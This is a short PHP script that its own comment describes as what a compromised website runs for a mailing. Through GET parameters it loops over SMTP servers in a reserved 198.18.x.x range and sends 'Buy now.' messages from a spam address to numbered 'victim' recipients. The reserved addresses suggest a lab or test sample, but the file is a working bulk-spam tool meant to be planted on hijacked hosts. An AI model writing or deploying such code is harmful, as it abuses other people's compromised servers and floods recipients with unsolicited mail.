<?php
// SPDX-License-Identifier: GPL-2.0-only
// What a compromised site runs for a mailing: mailing.php?first=NUMBER&networks=NUMBER&times=NUMBER takes so many mails,
// one a connection, straight to the receivers 198.18.FIRST.25, 198.18.FIRST+1.25 and so on, in turn.

function expect($connection, string $code): void
{
    do {
        $line = fgets($connection, 1024);
    } while ($line !== false && isset($line[3]) && $line[3] === '-');
    if ($line === false || strncmp($line, $code, 3) !== 0) {
        exit("expected $code, got $line");
    }
}

for ($i = 0; $i < (int) $_GET['times']; $i++) {
    $network = (int) $_GET['first'] + $i % (int) $_GET['networks'];
    $connection = fsockopen("198.18.$network.25", 25, $error, $message, 10) or exit($message);
    expect($connection, '220');
    $steps = [
        'EHLO shop.example' => '250',
        'MAIL FROM:<spam@shop.example>' => '250',
        "RCPT TO:<victim$i@mx.example>" => '250',
        'DATA' => '354',
        "Subject: offer\r\n\r\nBuy now.\r\n." => '250',
        'QUIT' => '221',
    ];
    foreach ($steps as $line => $code) {
        fwrite($connection, "$line\r\n");
        expect($connection, $code);
    }
    fclose($connection);
}
echo "sent by process " . getmypid() . "\n";
